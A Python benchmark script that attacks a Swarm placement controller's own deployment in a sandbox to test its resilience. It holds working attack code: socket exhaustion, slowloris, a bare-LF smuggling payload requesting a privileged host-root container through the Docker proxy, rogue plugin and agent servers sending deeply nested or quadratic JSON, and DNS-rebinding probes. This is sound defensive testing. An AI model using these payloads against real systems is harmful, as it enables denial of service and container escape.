"""The attack bench: the stack, deployed with its defaults, against an attacker on its
overlay network.

    python bench/attack.py [--seconds 60] [--name attack]
    python bench/attack.py --local [--seconds 20]

`--local` runs the socket attacks (2000 sockets that never start TLS, a slowloris,
clients that never read, the smuggled request through the Docker proxy) against a real
`Controller` on 127.0.0.1 instead, with no sandbox (bench/attack_local.py).

On a 4-node sandbox (3 managers), the controller's image is built with no registry,
`compose.yaml` is deployed as the docs deploy it (TLS certificates made by the docs'
openssl commands, tokens as secrets), with one addition: a placement plugin spec that
names an address on the overlay, so that an attacker can answer as a plugin. A managed
service (4 replicas) and an unmanaged one (4 replicas) run beside it. Then, one after
the other, from containers attached to the stack's attachable overlay network:

1. silent: 2000 sockets that never start TLS, from one address, on every controller's
   9464 and 9465 and every agent's 9810 (16 000 sockets in all), held for the phase;
2. slowloris: 16 connections per port that complete TLS and drip a request;
3. never-read: 16 clients per controller that pipeline 400 asks for the web view's
   script with a 4 KiB receive window and never read;
4. smuggle: the bare-LF request (a privileged `POST /containers/create` in a header
   line) sent to every agent's Docker proxy from inside the agent's container, as the
   agent's own user: the proxy's unix socket is reachable from nowhere else, so this is
   a taken agent process; then whether any engine created that container;
5. webhook: a holder of the webhook token rotates `failed` across the nodes, as fast
   as the webhook takes it;
6. plugin: the plugin answers every call with JSON nested 100 000 deep;
7. rebinding: the web view asked under another host name, with and without a login;
8. parsing and outbound calls (`parse_phases`): an unterminated string of escaped
   quotes, which cost the old JSON pre-check k squared steps holding the GIL, through
   the webhook (16 KiB bodies, with its token), from the plugin and from an agent
   (1 MiB answers; the agent is listed by the bench's override and answers with the
   agents' own certificate, as a node that is taken could); then that agent dripping
   its answer a byte every half second, which kept a thread and a socket per poll.

For each: how many reconcile cycles the leading controller ran during the attack, how
many tasks of each service were stopped (the goal: none), whether Swarm restarted a
controller or an agent, the largest memory use of each against its limit, the
controllers' and agents' own probe-socket answer times, and an honest client's /healthz
of every controller and agent from another node. The rules (`RULES`) are printed before
the first attack, a verdict per phase after it, and all verdicts at the end (the exit
code is 1 if any failed).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import docker

from controller.sandbox import Sandbox, SandboxSpec
from controller.sandbox.app_image import build_controller_image, load_into

ROOT = Path(__file__).resolve().parents[1]
STACK = "placement"
NETWORK = f"{STACK}_placement"
TOKENS = {
    "metrics": "bench-metrics-token",
    "health": "bench-health-token",
    "ui": "bench-ui-token-0123",
}
PLUGIN_SPEC = "tcp://evilplugin:9900"
PLUGIN_OVERRIDE = """\
version: "3.8"
services:
  controller:
    environment:
      PLACEMENT_PLUGINS: "true"
      PLACEMENT_PLUGIN_DIRS: /etc/placement-plugins
    configs:
      - source: bench-plugin
        target: /etc/placement-plugins/evil.spec
configs:
  bench-plugin:
    file: ./evil.spec
"""
# The attacker's tools, run with the controller image's python3 in a container on the
# overlay network. argv: MODE SECONDS ARGS...
ATTACKER = r"""
import http.client, json, socket, ssl, sys, threading, time
mode, seconds = sys.argv[1], float(sys.argv[2])
end = time.monotonic() + seconds
loose = ssl.create_default_context(); loose.check_hostname = False
loose.verify_mode = ssl.CERT_NONE
def ips(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, None, socket.AF_INET)})
    except OSError:
        return []
def targets(*kinds):
    found = []
    for service, port in kinds:
        found += [(ip, port) for ip in ips(service)]
    return found
CONTROLLERS = [("tasks.controller", 9464), ("tasks.controller", 9465)]
AGENTS = [("tasks.agent", 9810)]
def closed(s):
    s.setblocking(False)
    try:
        while s.recv(65536):
            pass
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True
    return True
if mode == "silent":
    # 2000 sockets that never start TLS, all from this one address, on every
    # controller port and every agent, held for the whole phase.
    found = {}
    held = []
    for host, port in targets(*CONTROLLERS, *AGENTS):
        kind = "agent" if port == 9810 else f"controller:{port}"
        mine, refused = [], 0
        for _ in range(2000):
            try:
                mine.append(socket.create_connection((host, port), timeout=5))
            except OSError:
                refused += 1
        held.append((kind, mine))
        row = found.setdefault(kind, {"targets": 0, "opened": 0, "refused": 0})
        row["targets"] += 1; row["opened"] += len(mine); row["refused"] += refused
    time.sleep(max(0.0, end - time.monotonic()))
    for kind, mine in held:
        found[kind]["closed_by_server"] = found[kind].get("closed_by_server", 0) + sum(
            closed(s) for s in mine)
        for s in mine:
            s.close()
    print(json.dumps(found))
elif mode == "slowloris":
    # 16 connections per port that complete TLS and drip a request a byte a second.
    stats = {"connections": 0, "cut": 0, "bytes_dripped": 0}
    def drip(host, port):
        while time.monotonic() < end:
            try:
                s = loose.wrap_socket(socket.create_connection((host, port), timeout=5))
                stats["connections"] += 1
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
                while time.monotonic() < end:
                    s.sendall(b"X"); stats["bytes_dripped"] += 1; time.sleep(1)
            except OSError:
                stats["cut"] += 1
                time.sleep(0.5)
    threads = [threading.Thread(target=drip, args=t, daemon=True)
               for t in targets(*CONTROLLERS, *AGENTS) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps(stats))
elif mode == "never-read":
    # 16 clients per controller that ask for the web view's script 400 times in one go
    # (pipelined, a 4 KiB receive window) and never read an answer.
    held, cut = [], 0
    ask = b"GET /ui/app.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 400
    for host, port in targets(("tasks.controller", 9464)):
        for _ in range(16):
            try:
                raw = socket.socket()
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                raw.settimeout(5); raw.connect((host, port))
                s = loose.wrap_socket(raw)
                try:
                    s.sendall(ask)
                except TimeoutError:
                    pass  # the server stopped reading: fine
                held.append(s)
            except OSError:
                cut += 1
    time.sleep(max(0.0, end - time.monotonic()))
    print(json.dumps({"clients": len(held) + cut, "cut_before_reading": cut,
                      "closed_by_server": sum(closed(s) for s in held) + cut}))
elif mode == "webhook":
    token, nodes = sys.argv[3], sys.argv[4].split(",")
    answers = {}
    i = 0
    while time.monotonic() < end:
        node = nodes[i % len(nodes)]; i += 1
        for state in ("failed", "ok"):
            for ip in ips("tasks.controller"):
                try:
                    c = http.client.HTTPSConnection(ip, 9465, timeout=5, context=loose)
                    c.request("POST", "/v1/health", json.dumps({"node": node, "state": state}),
                              {"Authorization": "Bearer " + token,
                               "Content-Type": "application/json"})
                    code = c.getresponse().status
                except OSError:
                    code = "error"
                answers[f"{state} {code}"] = answers.get(f"{state} {code}", 0) + 1
        time.sleep(0.2)
    print(json.dumps(answers))
elif mode == "plugin":
    import http.server
    deep = b"[" * 100000 + b"]" * 100000
    calls = {"n": 0}
    class H(http.server.BaseHTTPRequestHandler):
        def log_message(self, *a): pass
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            calls["n"] += 1
            body = b'{"Implements": ["PlacementDriver"]}' if "Activate" in self.path else deep
            self.send_response(200); self.send_header("Content-Length", str(len(body)))
            self.end_headers(); self.wfile.write(body)
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 9900), H)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    time.sleep(seconds)
    print(json.dumps({"plugin_calls": calls["n"]}))
elif mode == "rebinding":
    found = {}
    for ip in ips("tasks.controller"):
        for path, headers in (("/ui", {"Host": "rebound.example"}),
                              ("/ui/state", {"Host": "rebound.example",
                                             "Authorization": "Bearer " + sys.argv[3]}),
                              ("/ui/state", {}), ("/ui", {})):
            c = http.client.HTTPSConnection(ip, 9464, timeout=5, context=loose)
            c.request("GET", path, headers=headers)
            key = f"{path} {'Host rebound.example' if 'Host' in headers else 'no login'}"
            found.setdefault(key, []).append(c.getresponse().status)
    print(json.dumps(found))
elif mode == "healthz":
    # An honest client on an address of its own: /healthz of every controller (9464)
    # and every agent (9810), each in turn, once a second.
    times = {"controller": [], "agent": []}
    while time.monotonic() < end:
        for kind, port in (("controller", 9464), ("agent", 9810)):
            for ip in ips(f"tasks.{kind}"):
                started = time.monotonic()
                try:
                    c = http.client.HTTPSConnection(ip, port, timeout=5, context=loose)
                    c.request("GET", "/healthz"); ok = c.getresponse().status == 200
                    c.close()
                except OSError:
                    ok = False
                times[kind].append(time.monotonic() - started if ok else None)
        time.sleep(1)
    print(json.dumps(times))
"""


def say(text: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {text}", flush=True)


def wait(predicate: Callable[[], object], timeout: float, what: str) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        try:
            got = predicate()
        except Exception:  # the swarm is busy: ask again
            got = None
        if got:
            return got
        if time.monotonic() > deadline:
            raise SystemExit(f"timed out waiting for {what}")
        time.sleep(1)


def make_certificate(where: Path) -> None:
    """As docs/operations-deploy.md, "TLS", makes them: a CA, the controllers' pair
    (controller.crt, .key) and the agents' (agent.crt, .key)."""
    run = lambda *a: subprocess.run(a, cwd=where, check=True, capture_output=True)  # noqa: E731
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
        "-nodes", "-days", "30", "-subj", "/CN=swarm-placement-ca", "-keyout", "ca.key",
        "-out", "ca.crt")  # fmt: skip
    for name, extensions in (
        ("controller", "subjectAltName=DNS:controller,DNS:tasks.controller,DNS:localhost,"
                       "IP:127.0.0.1\nextendedKeyUsage=serverAuth\n"),
        ("agent", "extendedKeyUsage=serverAuth\n"),
    ):  # fmt: skip
        run("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
            "-subj", f"/CN=swarm-placement-{name}", "-keyout", f"{name}.key", "-out",
            f"{name}.csr")  # fmt: skip
        (where / f"{name}.ext").write_text(extensions)
        run("openssl", "x509", "-req", "-in", f"{name}.csr", "-CA", "ca.crt", "-CAkey",
            "ca.key", "-CAcreateserial", "-days", "30", "-extfile", f"{name}.ext", "-out",
            f"{name}.crt")  # fmt: skip


def deploy(sb: Sandbox, image: str, work: Path) -> None:
    client = sb.client()
    for name, value in TOKENS.items():
        client.secrets.create(name=f"placement-{name}-token", data=value.encode())
    client.secrets.create(name="placement-agent-secret", data=b"bench-agent-secret-0123")
    for name, file in (
        ("tls-cert", "controller.crt"), ("tls-key", "controller.key"), ("tls-ca", "ca.crt"),
        ("agent-tls-cert", "agent.crt"), ("agent-tls-key", "agent.key"),
    ):  # fmt: skip
        client.secrets.create(name=f"placement-{name}", data=(work / file).read_bytes())
    client.close()
    stack = (ROOT / "compose.yaml").read_text()
    if not _kernel_has_esp():  # as tests/integration/test_deploy_swarm.py does
        stack = re.sub(r"\n    driver_opts:\n      encrypted: \"true\"\n", "\n", stack)
        say("this kernel has no IPsec ESP: the overlay is not encrypted (TLS still is)")
    (work / "compose.yaml").write_text(stack)
    (work / "plugin.yaml").write_text(PLUGIN_OVERRIDE)
    (work / "evil.spec").write_text(PLUGIN_SPEC + "\n")
    (work / "parse.yaml").write_text(PARSE_OVERRIDE)
    shutil.copytree(ROOT / "policies", work / "policies")
    env = {
        **os.environ,
        "DOCKER_HOST": sb.manager_host,
        "PLACEMENT_IMAGE": image,
        "PLACEMENT_DOCKER_SOCKET": f"{sb.state.dir}/{{{{.Node.Hostname}}}}/docker.sock",
        "PLACEMENT_AGENT_USAGE": "containers",  # the sandbox's nodes share one /proc
    }
    cli = shutil.which("docker") or "docker"
    subprocess.run(
        [cli, "stack", "deploy", "--resolve-image", "never", "-c", "compose.yaml",
         "-c", "plugin.yaml", "-c", "parse.yaml", STACK],
        cwd=work, env=env, check=True, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def _kernel_has_esp() -> bool:
    import gzip  # noqa: PLC0415

    for path in (Path("/proc/config.gz"), Path(f"/boot/config-{os.uname().release}")):
        if path.exists():
            raw = path.read_bytes()
            text = (gzip.decompress(raw) if path.suffix == ".gz" else raw).decode()
            return re.search(r"^CONFIG_INET_ESP=[ym]$", text, re.M) is not None
    return True


def running(sb: Sandbox, service: str) -> dict[str, tuple[str, str]]:
    """Task ID -> (node hostname, container ID) of the service's running tasks."""
    client = sb.client()
    try:
        names = {n["ID"]: n["Description"]["Hostname"] for n in client.api.nodes()}
        tasks = client.api.tasks(filters={"service": service, "desired-state": "running"})
    finally:
        client.close()
    return {
        t["ID"]: (names.get(t["NodeID"], "?"), t["Status"]["ContainerStatus"]["ContainerID"])
        for t in tasks
        if t["Status"]["State"] == "running" and (t["Status"].get("ContainerStatus") or {})
    }


def in_container(sb: Sandbox, where: tuple[str, str], command: list[str]) -> tuple[int, str]:
    """The exit code and output of `command` in a task's container (-1: it is gone)."""
    client = sb.client(where[0])
    try:
        code, out = client.containers.get(where[1]).exec_run(command)
    except docker.errors.DockerException as exc:
        return -1, str(exc)
    finally:
        client.close()
    return int(code), out.decode(errors="replace")


def why_it_ended(sb: Sandbox, where: tuple[str, str]) -> str:
    """What Docker says of a task's container that stopped: its exit and health."""
    client = sb.client(where[0])
    try:
        state = client.containers.get(where[1]).attrs["State"]
    except docker.errors.DockerException as exc:
        return f"cannot inspect it: {exc}"
    finally:
        client.close()
    health = [h.get("Output", "").strip()[:120] for h in (state.get("Health") or {}).get("Log", [])]
    return (
        f"on {where[0]}: {state.get('Status')}, exit {state.get('ExitCode')}, oom-killed "
        f"{state.get('OOMKilled')}, last health checks {health[-3:]}"
    )


METRICS = (
    "import ssl, urllib.request as u\n"
    "c = ssl.create_default_context(cafile='/run/secrets/placement-tls-ca')\n"
    "r = u.Request('https://127.0.0.1:9464/metrics', headers={'Authorization': "
    f"'Bearer {TOKENS['metrics']}'}})\n"
    "print(u.urlopen(r, context=c, timeout=5).read().decode())"
)


def cycles(sb: Sandbox) -> dict[str, float]:
    """Controller task -> reconcile cycles it ran as the leader so far (a task whose
    metrics could not be read after three tries is left out)."""
    counted = {}
    for task, where in running(sb, f"{STACK}_controller").items():
        for _ in range(3):
            code, out = in_container(sb, where, ["python3", "-c", METRICS])
            if code == 0:
                counted[task] = sum(
                    float(line.rsplit(" ", 1)[1])
                    for line in out.splitlines()
                    if line.startswith("placement_reconcile_duration_seconds_count")
                    and 'role="leader"' in line
                )
                break
            time.sleep(1)
    return counted


# Inside a container: the probe's own request to the unix socket, every half second, no
# `docker exec` per sample: the process's answer time alone. argv: SECONDS
IN_PROCESS_PROBE = r"""
import json, socket, sys, time
end, times = time.monotonic() + float(sys.argv[1]), []
while time.monotonic() < end:
    started = time.monotonic()
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(10)
        s.connect("/run/swarm-placement/probe.sock")
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        ok = s.recv(64).startswith(b"HTTP/1.1 200")
        s.close()
    except OSError:
        ok = False
    times.append(time.monotonic() - started if ok else None)
    time.sleep(0.5)
print(json.dumps(times))
"""


def in_process_probes(sb: Sandbox, seconds: float) -> list[threading.Thread]:
    """Start timing each controller's and agent's own answer on its probe socket;
    `PROBED` fills as they end."""
    threads = []
    for service in (f"{STACK}_controller", f"{STACK}_agent"):
        for where in running(sb, service).values():

            def one(where: tuple[str, str] = where, service: str = service) -> None:
                command = ["python3", "-c", IN_PROCESS_PROBE, str(seconds)]
                code, out = in_container(sb, where, command)
                times = json.loads(out.strip().splitlines()[-1]) if code == 0 else [None]
                PROBED.setdefault(service, []).append(times)

            threads.append(threading.Thread(target=one, daemon=True))
            threads[-1].start()
    return threads


PROBED: dict[str, list[list[float | None]]] = {}


class MemoryWatch:
    """The largest memory use Docker reports (cgroup, as the limit counts it) of each
    controller and agent container while an attack runs, sampled every 2 s."""

    def __init__(self, sb: Sandbox) -> None:
        self.most: dict[str, float] = {}
        self.limits: dict[str, float] = {}
        self._stop = threading.Event()
        self._where = {
            service: running(sb, service) for service in (f"{STACK}_controller", f"{STACK}_agent")
        }
        self._sb = sb
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        clients = {node: self._sb.client(node) for node in self._sb.nodes}
        try:
            while not self._stop.wait(2):
                for service, tasks in self._where.items():
                    for node, container in tasks.values():
                        api = clients[node].api
                        try:
                            stats = api.stats(container, stream=False, one_shot=True)
                        except docker.errors.InvalidVersion:  # an engine before API 1.41
                            stats = api.stats(container, stream=False)
                        except Exception:  # gone, or the engine busy: next time
                            continue
                        memory = stats.get("memory_stats") or {}
                        used = memory.get("usage", 0) / 2**20
                        self.most[service] = max(self.most.get(service, 0.0), used)
                        if memory.get("limit"):
                            self.limits[service] = memory["limit"] / 2**20
        finally:
            for client in clients.values():
                client.close()

    def stop(self) -> str:
        self._stop.set()
        self._thread.join(30)
        return ", ".join(
            f"{service.removeprefix(STACK + '_')} max {self.most[service]:.1f} MiB "
            f"(limit {self.limits.get(service, 0):.0f})"
            for service in sorted(self.most)
        )

    def within_limits(self) -> bool:
        return bool(self.most) and all(self.most[s] < self.limits.get(s, 0) for s in self.most)


def health_log(sb: Sandbox, since: float) -> tuple[int, int, list[float]]:
    """Swarm's own healthchecks of the controllers since `since` (epoch seconds): how
    many ran, how many failed, and how long each that passed took."""
    runs = failures = 0
    took = []
    for where in running(sb, f"{STACK}_controller").values():
        client = sb.client(where[0])
        try:
            log = client.containers.get(where[1]).attrs["State"].get("Health", {}).get("Log", [])
        except docker.errors.DockerException:
            continue
        finally:
            client.close()
        for entry in log:
            start, end = _epoch(entry["Start"]), _epoch(entry["End"])
            if start < since:
                continue
            runs += 1
            if entry.get("ExitCode") != 0:
                failures += 1
            else:
                took.append(end - start)
    return runs, failures, took


def _epoch(text: str) -> float:
    """Docker's RFC 3339 time (nanoseconds, Z or an offset), as epoch seconds."""
    found = re.fullmatch(r"(.+T\d\d:\d\d:\d\d)(?:\.(\d+))?(Z|[+-]\d\d:\d\d)", text)
    if found is None:
        return 0.0
    zone = "+00:00" if found.group(3) == "Z" else found.group(3)
    stamp = datetime.fromisoformat(found.group(1) + zone)
    return stamp.timestamp() + float(f"0.{found.group(2) or 0}")


def probe_times(sb: Sandbox, samples: int) -> list[float]:
    """The container healthcheck, as Swarm runs it, timed: seconds per probe."""
    times = []
    for _ in range(samples):
        for where in running(sb, f"{STACK}_controller").values():
            started = time.monotonic()
            code, _ = in_container(sb, where, ["swarm-placement-probe", "healthz"])
            if code == 0:
                times.append(time.monotonic() - started)
    return times


def attacker(sb: Sandbox, image: str, node: str, args: list[str], alias: str | None = None) -> Any:
    client = sb.client(node)
    container = client.containers.run(
        image, entrypoint=["python3", "-c", ATTACKER], command=args, network=NETWORK,
        detach=True, name=f"attacker-{args[0]}-{int(time.time())}",
        # 2000 sockets per port, 16 000 in all, from one process (the sandbox's engines
        # may give no more than 20 000)
        ulimits=[docker.types.Ulimit(name="nofile", soft=19000, hard=19000)],
    )  # fmt: skip
    if alias is not None:  # reachable by name on the overlay, as the plugin spec says
        net = client.networks.get(NETWORK)
        net.disconnect(container)
        net.connect(container, aliases=[alias])
    return client, container


def finish(handle: Any, timeout: float) -> Any:
    client, container = handle
    try:
        container.wait(timeout=timeout)
        out = container.logs().decode(errors="replace").strip().splitlines()
        return json.loads(out[-1]) if out else None
    finally:
        container.remove(force=True)
        client.close()


RULES = (
    "the rules, stated before the run: during every attack (1) no controller or agent "
    "task ends (no restart, no OOM kill); (2) each stays under its memory limit; "
    "(3) every controller's and agent's probe socket answers every ask within 1 s; "
    "(4) an honest client on another address gets /healthz from every controller and "
    "agent within 2 s, every time; (5) no task of the managed or the unmanaged service "
    "is stopped"
)
VERDICTS: list[str] = []


def phase(sb: Sandbox, image: str, name: str, seconds: float, start: Callable[[], Any]) -> None:
    services = ("victim", "bystander", f"{STACK}_controller", f"{STACK}_agent")
    wait(lambda: len(cycles(sb)) == 2, 300, "both controllers answering")
    wait(lambda: len(running(sb, f"{STACK}_agent")) == len(sb.nodes), 300, "every agent")
    before = {s: running(sb, s) for s in services}
    cycles_before = cycles(sb)
    probes_before = probe_times(sb, 3)
    PROBED.clear()
    started = time.time()
    memory = MemoryWatch(sb)
    timing = in_process_probes(sb, seconds)
    honest = attacker(sb, image, "node-3", ["healthz", str(seconds)])
    if name.startswith("no attack"):
        probes_during = probe_times(sb, 3)
        attack = start()
    else:
        attack = start()
        probes_during = probe_times(sb, 3)
    result = finish(attack, seconds + 120) if isinstance(attack, tuple) else attack
    network = finish(honest, seconds + 120) or {}
    for thread in timing:
        thread.join(seconds + 120)
    time.sleep(15)  # what the attack set off has time to show
    used = memory.stop()
    checks, failed, took = health_log(sb, started)
    cycles_after = cycles(sb)
    after = {s: running(sb, s) for s in services}
    stopped = {s: len(set(before[s]) - set(after[s])) for s in services}
    ended = [
        f"{s} task {t[:12]} {why_it_ended(sb, before[s][t])}"
        for s in services[2:]
        for t in set(before[s]) - set(after[s])
    ]
    ran = {t[:12]: cycles_after[t] - n for t, n in cycles_before.items() if t in cycles_after}
    say(f"--- {name} ({seconds:.0f} s) ---")
    say(f"attacker: {json.dumps(result)}")
    say(f"cycles run as leader during the attack, per controller task: {ran}")
    say(f"tasks stopped: {stopped}")
    for line in ended:
        say(f"  {line}")
    say(f"memory (docker stats): {used}")
    say(
        "healthcheck (unix socket, via docker exec), median s: before "
        f"{_median(probes_before)}, during {_median(probes_during)} "
        f"({len(probes_during)} answered)"
    )
    probe_ok = True
    for service in services[2:]:
        asked = [t for times in PROBED.get(service, []) for t in times]
        own = [t for t in asked if t is not None]
        probe_ok &= bool(own) and len(own) == len(asked) and max(own) < 1.0
        say(
            f"the {service.removeprefix(STACK + '_')}s' own answer on the probe socket (no "
            f"exec), s: {len(own)} of {len(asked)} answered, median {_median(own)}, max "
            f"{max(own, default=0):.3f}"
        )
    say(
        f"Swarm's healthchecks of the controllers: {checks} run, {failed} failed; those "
        f"passed took median {_median(took)} s, max {max(took, default=0):.3f} s"
    )
    honest_ok = True
    for kind in ("controller", "agent"):
        asked = network.get(kind, []) if isinstance(network, dict) else []
        answered = [t for t in asked if t is not None]
        honest_ok &= bool(asked) and len(answered) == len(asked) and max(answered) < 2.0
        say(
            f"an honest client's /healthz of the {kind}s (another address): "
            f"{len(answered)} of {len(asked)} answered, median {_median(answered)} s, "
            f"max {max(answered, default=0):.3f} s"
        )
    checked = {
        "(1) no restart": not ended,
        "(2) memory": memory.within_limits(),
        "(3) probe < 1 s": probe_ok,
        "(4) honest < 2 s": honest_ok,
        "(5) no task stopped": stopped["victim"] == stopped["bystander"] == 0,
    }
    verdict = "PASS" if all(checked.values()) else "FAIL"
    failing = [rule for rule, ok in checked.items() if not ok]
    VERDICTS.append(f"{verdict} {name}" + (f" (failed: {', '.join(failing)})" if failing else ""))
    say(f"verdict: {VERDICTS[-1]}")


# Run in an agent's container as the agent's own user (it gives up root once its Docker
# proxy runs): what a taken agent process could send to the proxy. argv: IMAGE
SMUGGLE = r"""
import json, socket, sys
def ask(data):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(30)
        s.connect("/run/swarm-placement/docker-read.sock"); s.sendall(data)
        got = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
        s.close()
        return got.split(b"\r\n")[0].decode()
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
body = json.dumps({"Image": sys.argv[1], "Cmd": ["true"],
                   "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}).encode()
# The head ends (CRLF CRLF) after the body, so that the proxy reads it all as one head.
smuggled = (b"GET /v1.41/info HTTP/1.1\r\nX: a\n\nPOST /v1.41/containers/create"
            b"?name=smuggled-by-attack HTTP/1.1\nHost: x\nContent-Type: application/json\n"
            b"Content-Length: " + str(len(body)).encode() + b"\n\n" + body + b"\r\n\r\n")
print(json.dumps({"allowed_read": ask(b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n"),
                  "smuggled": ask(smuggled)}))
"""


def smuggle(sb: Sandbox, image: str) -> dict[str, Any]:
    """The bare-LF request through every agent's Docker proxy; then whether any engine
    created the container it asks for."""
    found: dict[str, Any] = {}
    for node, container in running(sb, f"{STACK}_agent").values():
        client = sb.client(node)
        try:
            code, out = client.containers.get(container).exec_run(
                ["python3", "-c", SMUGGLE, image], user="65534"
            )
            made = client.containers.list(all=True, filters={"name": "smuggled-by-attack"})
        finally:
            client.close()
        text = out.decode(errors="replace").strip().splitlines()
        found[node] = {
            "proxy": json.loads(text[-1]) if code == 0 and text else text[-3:],
            "container_created": bool(made),
        }
    return found


def _quiet(seconds: float) -> None:
    time.sleep(seconds)


def _median(values: list[float]) -> str:
    return f"{statistics.median(values):.3f}" if values else "none"


# --- parsing and outbound calls (parse_phases) ------------------------------------------

PARSE_OVERRIDE = """\
version: "3.8"
services:
  controller:
    environment:
      # An agent the attacker answers for (parse_phases), with the agents' certificate,
      # as a node that is taken could: listed beside the discovered ones.
      PLACEMENT_AGENTS: "node-4=https://evilagent:9811"
"""
# argv: MODE SECONDS ARGS...; the agent modes read the agents' pair from AGENT_CERT and
# AGENT_KEY. Each prints one JSON line.
PARSE_ATTACKER = r"""
import http.client, json, os, socket, ssl, sys, threading, time
mode, seconds = sys.argv[1], float(sys.argv[2])
end = time.monotonic() + seconds
loose = ssl.create_default_context(); loose.check_hostname = False
loose.verify_mode = ssl.CERT_NONE
def bait(size, head):
    # An unterminated string of escaped quotes: the old pre-check's k squared steps.
    return head + b'\\"' * ((size - len(head)) // 2)
def ips(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, None, socket.AF_INET)})
    except OSError:
        return []
def agent_server(answer):
    open("/tmp/agent.crt", "w").write(os.environ["AGENT_CERT"])
    open("/tmp/agent.key", "w").write(os.environ["AGENT_KEY"])
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain("/tmp/agent.crt", "/tmp/agent.key")
    listener = socket.create_server(("0.0.0.0", 9811))
    stats, lock = {"connections": 0, "open": 0, "most_open": 0}, threading.Lock()
    def serve(conn):
        try:
            s = ctx.wrap_socket(conn, server_side=True); s.settimeout(30)
            s.recv(65536)
            answer(s)
        except OSError:
            pass
        finally:
            with lock:
                stats["open"] -= 1
            conn.close()
    def accept():
        while True:
            conn, _ = listener.accept()
            with lock:
                stats["connections"] += 1; stats["open"] += 1
                stats["most_open"] = max(stats["most_open"], stats["open"])
            threading.Thread(target=serve, args=(conn,), daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()
    time.sleep(seconds)
    print(json.dumps(stats))
if mode == "bait-webhook":
    token, body = sys.argv[3], bait(16 * 1024 - 64, b'{"node": "')
    answers, took = {}, []
    while time.monotonic() < end:
        for ip in ips("tasks.controller"):
            started = time.monotonic()
            try:
                c = http.client.HTTPSConnection(ip, 9465, timeout=30, context=loose)
                c.request("POST", "/v1/health", body, {"Authorization": "Bearer " + token,
                                                       "Content-Type": "application/json"})
                code = str(c.getresponse().status)
            except OSError:
                code = "error"
            took.append(time.monotonic() - started)
            answers[code] = answers.get(code, 0) + 1
    took.sort()
    print(json.dumps({"answers": answers, "bytes": len(body),
                      "median_s": round(took[len(took) // 2], 3) if took else None,
                      "max_s": round(took[-1], 3) if took else None}))
elif mode == "bait-plugin":
    import http.server
    body, calls = bait((1 << 20) - 64, b'{"Vetoes": "'), {"n": 0}
    class H(http.server.BaseHTTPRequestHandler):
        def log_message(self, *a): pass
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            calls["n"] += 1
            out = b'{"Implements": ["PlacementDriver"]}' if "Activate" in self.path else body
            self.send_response(200); self.send_header("Content-Length", str(len(out)))
            self.end_headers(); self.wfile.write(out)
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 9900), H)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    time.sleep(seconds)
    print(json.dumps({"plugin_calls": calls["n"], "bytes": len(body)}))
elif mode == "bait-agent":
    body = bait((1 << 20) - 64, b'{"node_id": "')
    head = ("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
            "Connection: close\r\n\r\n" % len(body)).encode()
    agent_server(lambda s: s.sendall(head + body))
elif mode == "drip-agent":
    def drip(s):
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 1000000\r\n\r\n[")
        while time.monotonic() < end:
            s.sendall(b" "); time.sleep(0.5)
    agent_server(drip)
"""


def parse_attacker(
    sb: Sandbox, image: str, args: list[str], *, alias: str | None = None,
    environment: dict[str, str] | None = None,
) -> Any:  # fmt: skip
    """As `attacker`, with the parsing attacks' script, on node-4."""
    client = sb.client("node-4")
    container = client.containers.run(
        image, entrypoint=["python3", "-c", PARSE_ATTACKER], command=args, network=NETWORK,
        detach=True, name=f"attacker-{args[0]}-{int(time.time())}", environment=environment,
    )  # fmt: skip
    if alias is not None:
        net = client.networks.get(NETWORK)
        net.disconnect(container)
        net.connect(container, aliases=[alias])
    return client, container


def parse_phases(sb: Sandbox, image: str, seconds: float, work: Path) -> None:
    """The quadratic bait through the webhook, from the plugin and from an agent; then
    a dripping agent (the module's docstring, 5)."""
    agent = {
        "AGENT_CERT": (work / "agent.crt").read_text(),
        "AGENT_KEY": (work / "agent.key").read_text(),
    }
    run = str(seconds)
    phase(
        sb, image, "quadratic JSON bait through the webhook (16 KiB bodies)", seconds,
        lambda: parse_attacker(sb, image, ["bait-webhook", run, TOKENS["health"]]),
    )  # fmt: skip
    phase(
        sb, image, "quadratic JSON bait from the plugin (1 MiB answers)", seconds,
        lambda: parse_attacker(sb, image, ["bait-plugin", run], alias="evilplugin"),
    )  # fmt: skip
    phase(
        sb, image, "quadratic JSON bait from an agent (1 MiB answers)", seconds,
        lambda: parse_attacker(
            sb, image, ["bait-agent", run], alias="evilagent", environment=agent
        ),
    )  # fmt: skip
    phase(
